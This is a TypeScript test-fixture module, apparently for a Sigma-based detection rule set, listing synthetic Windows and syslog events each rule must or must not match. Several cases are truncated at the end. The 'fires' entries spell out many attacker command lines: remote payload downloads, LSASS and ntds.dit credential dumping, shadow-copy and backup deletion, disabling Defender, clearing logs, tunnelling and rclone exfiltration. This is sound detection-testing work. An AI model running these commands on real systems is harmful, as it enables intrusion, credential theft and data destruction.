/**
 * For tests: what each starter rule must find and must leave alone, as Sysmon, Windows and the makers of the devices document their
 * records, and the records of a normal day.
 * @module
 */
import type { SigmaEvent } from '@hinoban/sigma'

export const DAY = Date.UTC(2026, 10, 22, 1)
const MINUTE = 60_000

type Given = SigmaEvent | readonly string[]
type Case = { readonly fires: readonly Given[]; readonly quiet: readonly Given[] }
type Step = string | { readonly at: number; readonly event: SigmaEvent }
type Sequence = { readonly fires: () => readonly Step[]; readonly quiet: () => readonly Step[] }

const windows =
  (channel: string, provider: string) =>
  (eventId: number, fields: Readonly<Record<string, unknown>> = {}): SigmaEvent => ({
    channel,
    eventId,
    fields: {
      Channel: channel,
      EventID: eventId,
      Provider_Name: provider,
      Computer: 'PC01.example.jp',
      ...fields,
    },
  })
const sysmon = windows('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon')
const security = windows('Security', 'Microsoft-Windows-Security-Auditing')
const system = windows('System', 'Service Control Manager')
const defender = windows(
  'Microsoft-Windows-Windows Defender/Operational',
  'Microsoft-Windows-Windows Defender',
)

const SYSTEM32 = 'C:\\Windows\\System32'
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
const TEMP = 'C:\\Users\\hanako\\AppData\\Local\\Temp'

/** Sysmon 1. */
const ran = (
  image: string,
  commandLine: string,
  parent = `${SYSTEM32}\\cmd.exe`,
  more: Readonly<Record<string, unknown>> = {},
): SigmaEvent =>
  sysmon(1, {
    Image: image.includes('\\') ? image : `${SYSTEM32}\\${image}`,
    CommandLine: commandLine,
    ParentImage: parent,
    User: 'EXAMPLE\\hanako',
    ...more,
  })
/** Security 4688, with command lines switched on. */
const started = (image: string, commandLine: string, parent = `${SYSTEM32}\\cmd.exe`): SigmaEvent =>
  security(4688, {
    NewProcessName: `${SYSTEM32}\\${image}`,
    CommandLine: commandLine,
    ParentProcessName: parent,
    SubjectUserName: 'hanako',
    SubjectDomainName: 'EXAMPLE',
  })
const wrote = (image: string, file: string): SigmaEvent =>
  sysmon(11, { Image: image, TargetFilename: file })
const set = (key: string, details: string): SigmaEvent =>
  sysmon(13, { EventType: 'SetValue', TargetObject: key, Details: details, Image: 'C:\\x.exe' })

/** Records of auditd of one command, as the kernel writes them. */
let serial = 100
const audited = (...args: readonly string[]): readonly string[] => {
  serial += 1
  const mark = `msg=audit(1795309200.000:${serial})`
  const hex = (text: string): string => Buffer.from(text).toString('hex').toUpperCase()
  const words = args.map((arg, n) => `a${n}=${/[\s"]/.test(arg) ? hex(arg) : `"${arg}"`}`)
  return [
    `type=SYSCALL ${mark}: arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 exe="/usr/bin/${args[0]}"`,
    `type=EXECVE ${mark}: argc=${args.length} ${words.join(' ')}`,
    `type=EOE ${mark}:`,
  ]
}
const fortigate = (rest: string, minute = 0): string => {
  const time = new Date(DAY + 9 * 60 * MINUTE + minute * MINUTE).toISOString()
  return `<190>date=${time.slice(0, 10)} time=${time.slice(11, 19)} devname="FGT-01" devid="FG100F" tz="+0900" level="information" vd="root" ${rest}`
}
const ivanti = (code: string, from = '198.51.100.7', minute = 0): string => {
  const time = new Date(DAY + minute * MINUTE).toISOString().slice(0, 19)
  return `<134>1 ${time}Z vpn01 PulseSecure: - - - id=firewall time="${time.replace('T', ' ')}" pri=6 fw=192.0.2.1 vpn=ive user=hanako realm="Users" roles="" proto=auth src=${from} dst= dstname= type=vpn op= arg="" result= sent= rcvd= agent="" duration= msg="${code}: Login failed using auth server AD."`
}
const access = (path: string, from = '198.51.100.7', second = 0): string => {
  const time = new Date(DAY + second * 1_000).toISOString()
  return `${from} - - [22/Nov/2026:${time.slice(11, 19)} +0000] "GET ${path} HTTP/1.1" 404 153 "-" "curl/8"`
}
const m365 = (record: Readonly<Record<string, unknown>>, minute = 0): string =>
  JSON.stringify({
    CreationTime: new Date(DAY + minute * MINUTE).toISOString().slice(0, 19),
    Id: `id-${JSON.stringify(record).length}-${minute}`,
    RecordType: 1,
    ResultStatus: 'True',
    UserId: 'hanako@example.jp',
    Workload: 'Exchange',
    ...record,
  })
const entra = (record: Readonly<Record<string, unknown>>, second = 0): string =>
  JSON.stringify({
    id: `s-${second}`,
    createdDateTime: new Date(DAY + second * 1_000).toISOString(),
    userPrincipalName: 'hanako@example.jp',
    appDisplayName: 'Office 365',
    ipAddress: '198.51.100.7',
    ...record,
  })
const cloudtrail = (record: Readonly<Record<string, unknown>>): string =>
  JSON.stringify({
    eventVersion: '1.08',
    eventTime: new Date(DAY).toISOString(),
    awsRegion: 'ap-northeast-1',
    sourceIPAddress: '198.51.100.7',
    eventID: 'e',
    ...record,
  })
const sshd = (message: string, second = 0): string =>
  `<38>1 ${new Date(DAY + second * 1_000).toISOString()} srv01 sshd 900 - - ${message}`

/** One event of Windows each. */
export const SINGLE: Readonly<Record<string, Case>> = {
  'backup/backup-files-deleted': {
    fires: [
      ran('cmd.exe', 'cmd /c del /f D:\\Backup\\*.vbk'),
      started('cmd.exe', 'cmd.exe /c rd /s /q E:\\VeeamBackup'),
    ],
    quiet: [
      ran('cmd.exe', 'cmd /c dir D:\\Backup\\*.vbk'),
      ran('cmd.exe', 'cmd /c del C:\\temp\\x.log'),
    ],
  },
  'backup/veeam-job-changed': {
    fires: [
      windows('Veeam Backup', 'Veeam MP')(23090, {
        Message: "Job 'Daily' has been deleted by EXAMPLE\\admin.",
      }),
    ],
    quiet: [
      windows('Veeam Backup', 'Veeam MP')(190, {
        Message: "Backup job 'Daily' finished with Success.",
      }),
    ],
  },
  'defence/event-log-cleared': {
    fires: [
      windows('Security', 'Microsoft-Windows-Eventlog')(1102, { SubjectUserName: 'admin' }),
      windows('System', 'Microsoft-Windows-Eventlog')(104, { Channel: 'System' }),
    ],
    quiet: [windows('Application', 'Backup')(104, {}), system(7036, { param1: 'Windows Update' })],
  },
  'defence/event-log-cleared-by-command': {
    fires: [
      ran('wevtutil.exe', 'wevtutil cl Security'),
      ran(POWERSHELL, 'powershell -c Clear-EventLog -LogName System'),
      ran('auditpol.exe', 'auditpol /set /category:* /success:disable'),
      ran('wevtutil.exe', 'wevtutil sl Security /e:false'),
    ],
    quiet: [
      ran('wevtutil.exe', 'wevtutil sl Security /ms:1073741824'),
      ran('wevtutil.exe', 'wevtutil qe Security /c:5'),
      ran('auditpol.exe', 'auditpol /get /category:*'),
    ],
  },
  'defence/firewall-off': {
    fires: [
      ran('netsh.exe', 'netsh advfirewall set allprofiles state off'),
      ran(
        'netsh.exe',
        'netsh advfirewall firewall add rule name=x dir=in localport=3389 protocol=tcp action=allow',
      ),
      ran(
        POWERSHELL,
        'powershell Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False',
      ),
    ],
    quiet: [
      ran('netsh.exe', 'netsh advfirewall set allprofiles state on'),
      ran('netsh.exe', 'netsh advfirewall firewall show rule name=all'),
    ],
  },
  'defence/malware-found': {
    fires: [defender(1116, { 'Threat Name': 'Trojan:Win32/Emotet' }), defender(1119)],
    quiet: [defender(1117), defender(2000)],
  },
  'defence/protection-disabled': {
    fires: [
      defender(5001),
      defender(5007, {
        'New Value':
          'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring = 0x1',
      }),
    ],
    quiet: [
      defender(5000),
      defender(5007, {
        'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\SignatureUpdate = 0x1',
      }),
    ],
  },
  'defence/protection-disabled-by-command': {
    fires: [
      ran(POWERSHELL, 'powershell Set-MpPreference -DisableRealtimeMonitoring $true'),
      ran(POWERSHELL, 'powershell Add-MpPreference -ExclusionPath C:\\Users\\Public'),
      ran(
        'reg.exe',
        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
      ),
      ran('sc.exe', 'sc stop WinDefend'),
    ],
    quiet: [
      ran(POWERSHELL, 'powershell Get-MpPreference'),
      ran(POWERSHELL, 'powershell Set-MpPreference -ScanScheduleDay 0'),
    ],
  },
  'defence/vulnerable-driver': {
    fires: [
      sysmon(6, { ImageLoaded: `${TEMP}\\RTCore64.sys`, Signed: 'true' }),
      sysmon(6, { ImageLoaded: 'C:\\Windows\\System32\\drivers\\gdrv.sys' }),
    ],
    quiet: [
      sysmon(6, { ImageLoaded: 'C:\\Windows\\System32\\drivers\\tcpip.sys' }),
      sysmon(6, {
        ImageLoaded:
          'C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{A}\\MpKslDrv.sys',
      }),
    ],
  },
  'directory/administrators-listed': {
    fires: [
      ran('net.exe', 'net group "Domain Admins" /domain'),
      started('net1.exe', 'net1 localgroup administrators'),
    ],
    quiet: [
      ran('net.exe', 'net localgroup administrators hanako /add'),
      ran('net.exe', 'net use Z: \\\\fs\\share'),
    ],
  },
  'directory/directory-copied': {
    fires: [
      ran('ntdsutil.exe', 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'),
      ran(
        'cmd.exe',
        'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\windows\\ntds\\ntds.dit c:\\temp',
      ),
      ran('reg.exe', 'reg save HKLM\\SAM C:\\temp\\sam.hiv'),
    ],
    quiet: [
      ran('reg.exe', 'reg export HKLM\\SOFTWARE\\Vendor C:\\backup\\vendor.reg'),
      ran('ntdsutil.exe', 'ntdsutil "roles" q q'),
    ],
  },
  'directory/domain-reconnaissance-tools': {
    fires: [
      ran(`${TEMP}\\adfind.exe`, 'adfind -f objectcategory=computer'),
      ran('nltest.exe', 'nltest /domain_trusts'),
      ran(POWERSHELL, 'powershell Invoke-BloodHound -CollectionMethod All'),
    ],
    quiet: [
      ran('nltest.exe', 'nltest /sc_query:example.jp'),
      ran(POWERSHELL, 'powershell Get-ADUser hanako'),
    ],
  },
  'directory/local-administrator-by-command': {
    fires: [
      ran('net.exe', 'net user support P@ss /add'),
      ran('net1.exe', 'net1 localgroup administrators support /add'),
      ran(POWERSHELL, 'powershell Add-LocalGroupMember -Group Administrators -Member x'),
    ],
    quiet: [
      ran('net.exe', 'net use Z: \\\\fs\\user /persistent:yes'),
      ran('net.exe', 'net user hanako /domain'),
    ],
  },
  'directory/lsass-dumped-by-command': {
    fires: [
      ran(
        'rundll32.exe',
        'rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full',
      ),
      ran(`${TEMP}\\procdump64.exe`, 'procdump64 -accepteula -ma lsass.exe out.dmp'),
      ran(`${TEMP}\\m.exe`, 'm.exe "privilege::debug" "sekurlsa::logonpasswords"'),
    ],
    quiet: [
      ran('C:\\Tools\\procdump.exe', 'procdump -ma w3wp.exe C:\\dumps'),
      ran('rundll32.exe', 'rundll32 comsvcs.dll,Register'),
    ],
  },
  'directory/lsass-read': {
    fires: [
      sysmon(10, {
        SourceImage: `${TEMP}\\m.exe`,
        TargetImage: `${SYSTEM32}\\lsass.exe`,
        GrantedAccess: '0x1010',
        CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+a',
      }),
      sysmon(10, {
        SourceImage: `${SYSTEM32}\\rundll32.exe`,
        TargetImage: `${SYSTEM32}\\lsass.exe`,
        GrantedAccess: '0x1fffff',
        CallTrace: 'C:\\Windows\\SYSTEM32\\dbgcore.DLL+1',
      }),
    ],
    quiet: [
      sysmon(10, {
        SourceImage: `${SYSTEM32}\\svchost.exe`,
        TargetImage: `${SYSTEM32}\\lsass.exe`,
        GrantedAccess: '0x1410',
        CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+a',
      }),
      sysmon(10, {
        SourceImage: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
        TargetImage: `${SYSTEM32}\\lsass.exe`,
        GrantedAccess: '0x1010',
        CallTrace: 'x',
      }),
    ],
  },
  'directory/password-never-expires': {
    fires: [
      security(4738, { TargetUserName: 'svc', UserAccountControl: '\r\n\t\t%%2089' }),
      security(4738, { TargetUserName: 'hanako', UserAccountControl: '\r\n\t\t%%2096' }),
    ],
    quiet: [security(4738, { TargetUserName: 'svc', UserAccountControl: '-' })],
  },
  'directory/replication-by-stranger': {
    fires: [
      security(4662, {
        SubjectUserName: 'hanako',
        Properties: '%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}',
      }),
    ],
    quiet: [
      security(4662, {
        SubjectUserName: 'DC01$',
        Properties: '%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}',
      }),
      security(4662, {
        SubjectUserName: 'MSOL_abc',
        Properties: '%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}',
      }),
    ],
  },
  'directory/user-added-to-administrators': {
    fires: [
      security(4732, { TargetSid: 'S-1-5-32-544', MemberSid: 'S-1-5-21-1-2-3-1104' }),
      security(4728, { TargetSid: 'S-1-5-21-1-2-3-512' }),
    ],
    quiet: [
      security(4732, { TargetSid: 'S-1-5-32-545' }),
      security(4728, { TargetSid: 'S-1-5-21-1-2-3-1512' }),
    ],
  },
  'emotet/autorun-to-user-folder': {
    fires: [
      set(
        'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
        'C:\\Windows\\System32\\regsvr32.exe C:\\Users\\hanako\\AppData\\Roaming\\x\\y.dll',
      ),
    ],
    quiet: [
      set(
        'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive',
        '"C:\\Users\\hanako\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
      ),
      set(
        'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\{A}',
        '"C:\\ProgramData\\Package Cache\\{A}\\setup.exe" /burn.runonce',
      ),
    ],
  },
  'emotet/lolbin-download': {
    fires: [
      ran('certutil.exe', 'certutil -urlcache -split -f http://198.51.100.9/a.exe a.exe'),
      ran('bitsadmin.exe', 'bitsadmin /transfer j http://198.51.100.9/a.exe C:\\a.exe'),
      ran('mshta.exe', 'mshta http://198.51.100.9/a.hta'),
      ran('regsvr32.exe', 'regsvr32 /s /n /u /i:http://198.51.100.9/a.sct scrobj.dll'),
      ran('msiexec.exe', 'msiexec /q /i http://198.51.100.9/a.msi'),
    ],
    quiet: [
      ran('certutil.exe', 'certutil -store My'),
      ran('msiexec.exe', 'msiexec /i "\\\\fs\\soft\\app.msi" /qn'),
      ran('bitsadmin.exe', 'bitsadmin /list'),
    ],
  },
  'emotet/office-starts-a-shell': {
    fires: [
      ran('cmd.exe', 'cmd /c powershell', WORD),
      started('regsvr32.exe', 'regsvr32 /s ..\\x.ocx', WORD.replace('WINWORD', 'EXCEL')),
    ],
    quiet: [
      ran('rundll32.exe', 'rundll32 printui.dll,PrintUIEntry /il', WORD),
      ran(
        'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
        'msedge.exe https://example.jp/',
        WORD,
      ),
    ],
  },
  'emotet/powershell-download': {
    fires: [
      ran(
        POWERSHELL,
        "powershell -nop IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')",
      ),
    ],
    quiet: [
      ran(
        POWERSHELL,
        "powershell iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
      ),
      ran(POWERSHELL, 'powershell Invoke-WebRequest https://example.jp/a.zip -OutFile a.zip'),
    ],
  },
  'emotet/powershell-encoded': {
    fires: [
      ran(
        POWERSHELL,
        'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=',
      ),
      ran(
        POWERSHELL,
        'powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=',
      ),
      ran(POWERSHELL, 'powershell.exe -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA='),
    ],
    quiet: [
      ran(
        POWERSHELL,
        'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=',
        'C:\\Windows\\CCM\\CcmExec.exe',
      ),
      ran(POWERSHELL, 'powershell -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1'),
    ],
  },
  'emotet/regsvr32-from-user-folder': {
    fires: [
      ran('regsvr32.exe', `regsvr32.exe /s ${TEMP}\\rad1.tmp.dll`),
      ran('rundll32.exe', 'rundll32 C:\\ProgramData\\a.dll,Start'),
    ],
    quiet: [
      ran(
        'regsvr32.exe',
        'regsvr32 /s C:\\Users\\hanako\\AppData\\Local\\Microsoft\\TeamsMeetingAddin\\1.0\\x64\\Microsoft.Teams.AddinLoader.dll',
      ),
      ran('regsvr32.exe', 'regsvr32 /s "C:\\Program Files\\Vendor\\a.dll"'),
    ],
  },
  'emotet/regsvr32-strange-extension': {
    fires: [
      ran('regsvr32.exe', 'C:\\Windows\\System32\\regsvr32.exe /S ..\\hhhh.ocx_'),
      ran('rundll32.exe', 'rundll32 C:\\Users\\Public\\a.jpg,DllRegisterServer'),
    ],
    quiet: [
      ran('rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl'),
      ran('regsvr32.exe', 'regsvr32 /s C:\\App\\control.ocx'),
    ],
  },
  'emotet/script-from-archive-or-mail': {
    fires: [
      ran('wscript.exe', `wscript "${TEMP}\\Temp1_invoice.zip\\invoice.js"`),
      ran(
        'mshta.exe',
        'mshta C:\\Users\\hanako\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\X\\a.hta',
      ),
    ],
    quiet: [
      ran('wscript.exe', 'wscript C:\\Windows\\System32\\slmgr.vbs /dlv'),
      ran('cscript.exe', 'cscript //nologo \\\\dc01\\netlogon\\logon.vbs'),
    ],
  },
  'emotet/shortcut-starts-a-shell': {
    fires: [
      ran(
        'cmd.exe',
        `cmd /c findstr "xyz" ${TEMP}\\a.lnk > b.vbs & b.vbs`,
        'C:\\Windows\\explorer.exe',
      ),
      ran('cmd.exe', `cmd.exe ${' '.repeat(80)}/c start a`, 'C:\\Windows\\explorer.exe'),
    ],
    quiet: [ran('cmd.exe', '"C:\\Windows\\system32\\cmd.exe" ', 'C:\\Windows\\explorer.exe')],
  },
  'emotet/task-runs-script': {
    fires: [
      ran(
        'schtasks.exe',
        'schtasks /create /tn upd /sc minute /tr "powershell -w hidden -f C:\\a.ps1"',
      ),
    ],
    quiet: [
      ran('schtasks.exe', 'schtasks /query'),
      ran(
        'schtasks.exe',
        'schtasks /create /tn Backup /sc daily /tr "C:\\Program Files\\Backup\\run.exe"',
      ),
      ran(
        'schtasks.exe',
        'schtasks /create /tn OneDrive /tr "C:\\Users\\hanako\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"',
      ),
    ],
  },
  'exfiltration/archive-with-password': {
    fires: [
      ran('C:\\Program Files\\7-Zip\\7z.exe', '7z a -pSecret1 -mhe D:\\x.7z D:\\Shares'),
      ran(`${TEMP}\\rar.exe`, 'rar a -hpSecret x.rar D:\\Shares'),
      ran(`${TEMP}\\rar.exe`, 'rar a -v500m x.rar D:\\Shares'),
    ],
    quiet: [
      ran('C:\\Program Files\\7-Zip\\7z.exe', '7z a D:\\backup\\x.7z D:\\work'),
      ran('C:\\Program Files\\7-Zip\\7z.exe', '7z x x.7z'),
    ],
  },
  'exfiltration/cloud-copy-tool': {
    fires: [
      ran(`${TEMP}\\rclone.exe`, 'rclone copy D:\\Shares mega:x'),
      ran(`${TEMP}\\svc.exe`, 'svc sync D: s3:b', undefined, { OriginalFileName: 'rclone.exe' }),
      ran('C:\\Program Files (x86)\\WinSCP\\WinSCP.com', 'winscp.com /command "open sftp://x"'),
    ],
    quiet: [
      ran(
        'C:\\Program Files (x86)\\WinSCP\\WinSCP.exe',
        '"C:\\Program Files (x86)\\WinSCP\\WinSCP.exe"',
      ),
      ran('C:\\Tools\\rclone.exe', 'rclone version'),
    ],
  },
  'exfiltration/database-dumped': {
    fires: [
      ran('C:\\mysql\\bin\\mysqldump.exe', 'mysqldump --all-databases -r C:\\Users\\Public\\a.sql'),
      ran(
        'C:\\Tools\\sqlcmd.exe',
        'sqlcmd -Q "BACKUP DATABASE hr TO DISK=\'C:\\inetpub\\wwwroot\\a.bak\'"',
      ),
    ],
    quiet: [ran('C:\\mysql\\bin\\mysqldump.exe', 'mysqldump --all-databases -r D:\\Backup\\a.sql')],
  },
  'lateral/hidden-share-written': {
    fires: [
      security(5145, {
        ShareName: '\\\\*\\ADMIN$',
        RelativeTargetName: 'Temp\\a.exe',
        AccessList: '%%1538\r\n\t\t%%4417',
        SubjectUserName: 'admin',
      }),
    ],
    quiet: [
      security(5145, {
        ShareName: '\\\\*\\ADMIN$',
        RelativeTargetName: 'Temp\\a.exe',
        AccessList: '%%4416',
        SubjectUserName: 'admin',
      }),
      security(5145, {
        ShareName: '\\\\*\\C$',
        RelativeTargetName: 'a.exe',
        AccessList: '%%4417',
        SubjectUserName: 'SCCM01$',
      }),
    ],
  },
  'lateral/remote-service-execution': {
    fires: [
      system(7045, { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe' }),
      system(7045, { ServiceName: 'x', ImagePath: '%COMSPEC% /C echo a > \\\\127.0.0.1\\C$\\o' }),
    ],
    quiet: [
      system(7045, {
        ServiceName: 'Google Update',
        ImagePath: '"C:\\Program Files\\Google\\Update\\GoogleUpdate.exe" /svc',
      }),
    ],
  },
  'lateral/remote-tool-installed': {
    fires: [
      ran('C:\\Users\\hanako\\Downloads\\AnyDesk.exe', 'AnyDesk.exe'),
      ran(
        'C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe',
        'AnyDesk.exe --install C:\\x --start-with-win --silent',
      ),
    ],
    quiet: [
      ran(
        'C:\\Program Files\\TeamViewer\\TeamViewer.exe',
        '"C:\\Program Files\\TeamViewer\\TeamViewer.exe"',
      ),
    ],
  },
  'lateral/tunnel-tool': {
    fires: [
      ran('OpenSSH\\ssh.exe', 'ssh -N -R 3389:127.0.0.1:3389 u@198.51.100.9'),
      ran(`${TEMP}\\chisel.exe`, 'chisel client 198.51.100.9:443 R:socks'),
      ran('netsh.exe', 'netsh interface portproxy add v4tov4 listenport=1 connectaddress=10.0.0.1'),
    ],
    quiet: [
      ran('OpenSSH\\ssh.exe', 'ssh hanako@srv01'),
      ran('netsh.exe', 'netsh interface portproxy show all'),
    ],
  },
  'lateral/wmi-starts-a-shell': {
    fires: [
      ran(
        'cmd.exe',
        'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1',
        `${SYSTEM32}\\wbem\\WmiPrvSE.exe`,
      ),
      started(
        'WindowsPowerShell\\v1.0\\powershell.exe',
        'powershell -c x',
        `${SYSTEM32}\\wsmprovhost.exe`,
      ),
    ],
    quiet: [
      ran(
        POWERSHELL,
        'powershell -f C:\\Windows\\CCM\\SystemTemp\\a.ps1',
        `${SYSTEM32}\\wbem\\WmiPrvSE.exe`,
      ),
      ran('wbem\\mofcomp.exe', 'mofcomp a.mof', `${SYSTEM32}\\wbem\\WmiPrvSE.exe`),
    ],
  },
  'macro/macro-warning-lowered': {
    fires: [
      set(
        'HKU\\S-1-5-21\\Software\\Microsoft\\Office\\16.0\\Excel\\Security\\VBAWarnings',
        'DWORD (0x00000001)',
      ),
      set(
        'HKU\\S-1-5-21\\Software\\Policies\\Microsoft\\office\\16.0\\word\\security\\BlockContentExecutionFromInternet',
        'DWORD (0x00000000)',
      ),
      security(4657, {
        ObjectName: '\\REGISTRY\\USER\\S-1-5-21\\Software\\Microsoft\\Office\\16.0\\Word\\Security',
        ObjectValueName: 'VBAWarnings',
        NewValue: '1',
        NewValueType: '%%1876',
        OperationType: '%%1905',
      }),
    ],
    quiet: [
      set(
        'HKU\\S-1-5-21\\Software\\Microsoft\\Office\\16.0\\Excel\\Security\\VBAWarnings',
        'DWORD (0x00000004)',
      ),
      set(
        'HKU\\S-1-5-21\\Software\\Policies\\Microsoft\\office\\16.0\\word\\security\\BlockContentExecutionFromInternet',
        'DWORD (0x00000001)',
      ),
    ],
  },
  'macro/office-connects-outside': {
    fires: [
      sysmon(3, {
        Image: `${SYSTEM32}\\regsvr32.exe`,
        Initiated: 'true',
        DestinationIp: '198.51.100.9',
        DestinationPort: 8080,
      }),
    ],
    quiet: [
      sysmon(3, {
        Image: WORD,
        Initiated: 'true',
        DestinationIp: '198.51.100.9',
        DestinationPort: 443,
      }),
      sysmon(3, {
        Image: WORD,
        Initiated: 'true',
        DestinationIp: '10.1.2.3',
        DestinationPort: 445,
      }),
    ],
  },
  'macro/office-loads-script-engine': {
    fires: [
      wrote(WORD, 'C:\\Users\\hanako\\a.dll'),
      wrote(WORD.replace('WINWORD', 'ONENOTE'), `${TEMP}\\OneNote\\16.0\\a.hta`),
    ],
    quiet: [
      wrote(WORD, 'C:\\Users\\hanako\\Documents\\a.docx'),
      wrote(WORD, 'C:\\Users\\hanako\\AppData\\Roaming\\Microsoft\\Office\\Recent\\a.docx.LNK'),
    ],
  },
  'ransomware/backup-catalogue-deleted': {
    fires: [
      ran('wbadmin.exe', 'wbadmin delete catalog -quiet'),
      started('wbadmin.exe', 'wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0'),
    ],
    quiet: [
      ran('wbadmin.exe', 'wbadmin start backup -backupTarget:E: -include:C: -quiet'),
      ran('wbadmin.exe', 'wbadmin get versions'),
    ],
  },
  'ransomware/backup-services-stopped': {
    fires: [
      ran('net.exe', 'net stop "Veeam Backup Service" /y'),
      ran('sc.exe', 'sc config MSSQLSERVER start= disabled'),
      ran('taskkill.exe', 'taskkill /f /im sqlwriter.exe'),
    ],
    quiet: [
      ran('sc.exe', 'sc config MSSQLSERVER start= auto'),
      ran('net.exe', 'net stop spooler'),
      ran('sc.exe', 'sc query MSSQLSERVER'),
    ],
  },
  'ransomware/free-space-wiped': {
    fires: [ran('cipher.exe', 'cipher /w:C:'), ran(`${TEMP}\\sdelete64.exe`, 'sdelete64 -z c:')],
    quiet: [ran('cipher.exe', 'cipher /e C:\\secret')],
  },
  'ransomware/ransom-note-written': {
    fires: [
      wrote(`${TEMP}\\a.exe`, 'D:\\Shares\\HOW_TO_DECRYPT.txt'),
      wrote(`${TEMP}\\a.exe`, 'D:\\Shares\\!!!READ_ME_NOW!!!.html'),
    ],
    quiet: [
      wrote('C:\\Windows\\explorer.exe', 'D:\\Shares\\readme.txt'),
      wrote('C:\\Windows\\explorer.exe', 'D:\\Shares\\recovery plan.docx'),
    ],
  },
  'ransomware/recovery-switched-off': {
    fires: [
      ran('bcdedit.exe', 'bcdedit /set {default} recoveryenabled No'),
      ran('bcdedit.exe', 'bcdedit /set {current} safeboot network'),
    ],
    quiet: [
      ran('bcdedit.exe', 'bcdedit /enum'),
      ran('bcdedit.exe', 'bcdedit /set {default} recoveryenabled Yes'),
    ],
  },
  'ransomware/shadow-copies-deleted': {
    fires: [
      ran('vssadmin.exe', 'vssadmin.exe Delete Shadows /All /Quiet'),
      started('vssadmin.exe', 'vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB'),
      ran('wbem\\WMIC.exe', 'wmic shadowcopy delete'),
      ran(
        POWERSHELL,
        'powershell "Get-WmiObject Win32_ShadowCopy | ForEach-Object {$_.Delete();}"',
      ),
    ],
    quiet: [
      ran('vssadmin.exe', 'vssadmin list shadows'),
      ran('vssadmin.exe', 'vssadmin create shadow /for=C:'),
      ran(POWERSHELL, 'powershell Get-CimInstance Win32_ShadowCopy'),
    ],
  },
  'sign-in/remote-desktop-from-internet': {
    fires: [security(4624, { LogonType: 10, IpAddress: '198.51.100.7', TargetUserName: 'hanako' })],
    quiet: [
      security(4624, { LogonType: 10, IpAddress: '192.168.1.7' }),
      security(4624, { LogonType: 10, IpAddress: '-' }),
      security(4624, { LogonType: 3, IpAddress: '198.51.100.7' }),
    ],
  },
  'web/web-shell-file': {
    fires: [wrote(`${SYSTEM32}\\inetsrv\\w3wp.exe`, 'C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx')],
    quiet: [
      wrote(
        'C:\\Program Files\\Microsoft Visual Studio\\devenv.exe',
        'C:\\inetpub\\wwwroot\\a.aspx',
      ),
      wrote(`${SYSTEM32}\\inetsrv\\w3wp.exe`, 'C:\\inetpub\\wwwroot\\upload\\a.png'),
    ],
  },
  'web/web-shell-process': {
    fires: [
      ran('cmd.exe', 'cmd /c whoami', `${SYSTEM32}\\inetsrv\\w3wp.exe`),
      ran('cmd.exe', 'cmd /c dir', 'C:\\Java\\bin\\java.exe', {
        ParentCommandLine: 'java -Dcatalina.home=C:\\tomcat',
      }),
    ],
    quiet: [
      ran(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe',
        'csc /t:library',
        `${SYSTEM32}\\inetsrv\\w3wp.exe`,
      ),
      ran('cmd.exe', 'cmd /c dir', 'C:\\Java\\bin\\java.exe', {
        ParentCommandLine: 'java -jar tool.jar',
      }),
    ],
  },
}

/** Lines as devices and services write them. */
export const LINES: Readonly<Record<string, Case>> = {
  'backup/nas-shares-wiped': {
    fires: [
      audited('rm', '-rf', '/mnt/backup/daily'),
      audited('sh', '-c', 'zfs destroy -r tank/data@auto'),
    ],
    quiet: [audited('rm', '-rf', '/tmp/build'), audited('zfs', 'list', '-t', 'snapshot')],
  },
  'cloud/aws-root-used': {
    fires: [
      [
        cloudtrail({
          eventName: 'ConsoleLogin',
          eventSource: 'signin.amazonaws.com',
